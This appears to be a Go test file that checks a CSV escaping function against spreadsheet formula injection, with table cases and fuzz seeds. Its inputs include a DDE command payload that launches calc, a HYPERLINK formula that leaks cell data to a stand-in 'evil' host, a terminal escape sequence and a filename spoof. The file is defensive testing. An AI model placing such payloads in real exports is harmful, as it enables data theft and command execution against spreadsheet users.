package terminal

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode"
)

func TestCSV(t *testing.T) {
	for _, c := range []struct {
		in     string
		number bool
		want   string
	}{
		{"plain", false, `"plain"`}, {"-5", true, "-5"}, {"-1.5e-3", true, "-1.5e-3"}, {"-5", false, `"'-5"`}, {"-cmd|' /C calc'!A0", true, `"'-cmd|' /C calc'!A0"`},
		{"=1+1", false, `"'=1+1"`}, {"+1", false, `"'+1"`}, {"@SUM(A1)", false, `"'@SUM(A1)"`}, {"\t=1", false, `"'\t=1"`}, {"\rx", false, `"'\rx"`},
		{"＝1", false, `"'＝1"`}, {`"=1`, false, `"'""=1"`}, {" =1", false, `"' =1"`}, {"a;=1", false, `"a;=1"`}, {"a\"b", false, `"a""b"`}, {"\x1b[31m", false, `"\x1b[31m"`},
		{"", false, `""`}, {"inf", true, "inf"}, {"a\nb", false, `"a\nb"`},
	} {
		if got := CSV(c.in, c.number); got != c.want {
			t.Errorf("CSV(%q, %v) = %s, want %s", c.in, c.number, got, c.want)
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, s := range []string{"=HYPERLINK(\"http://evil/?x=\"&A1,\"Click\")", "Mozilla/5.0\x1b]0;owned\x07", "\u202etxt.exe", "Re: =1+1", "@x", "\t@", "-1", "＝1", "a\r\n=1"} {
		f.Add(s, false)
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, s string, number bool) {
		cell := CSV(s, number)
		for _, r := range cell {
			if !unicode.IsPrint(r) {
				t.Fatalf("CSV(%q) has %U", s, r)
			}
		}
		if strings.ContainsAny(cell[:1], "=+-@\t\r") && !isNumber(cell) {
			t.Fatalf("CSV(%q) = %s begins a formula", s, cell)
		}
		records, err := csv.NewReader(strings.NewReader(cell + ",end\n")).ReadAll()
		if err != nil || len(records) != 1 || len(records[0]) != 2 {
			t.Fatalf("CSV(%q) = %s reads as %q, %v", s, cell, records, err)
		}
		value := strings.TrimLeft(records[0][0], " \u00a0\u3000")
		if value != "" && strings.ContainsRune(dangerous, []rune(value)[0]) && !isNumber(records[0][0]) {
			t.Fatalf("CSV(%q) = %s is a formula", s, cell)
		}
	})
}
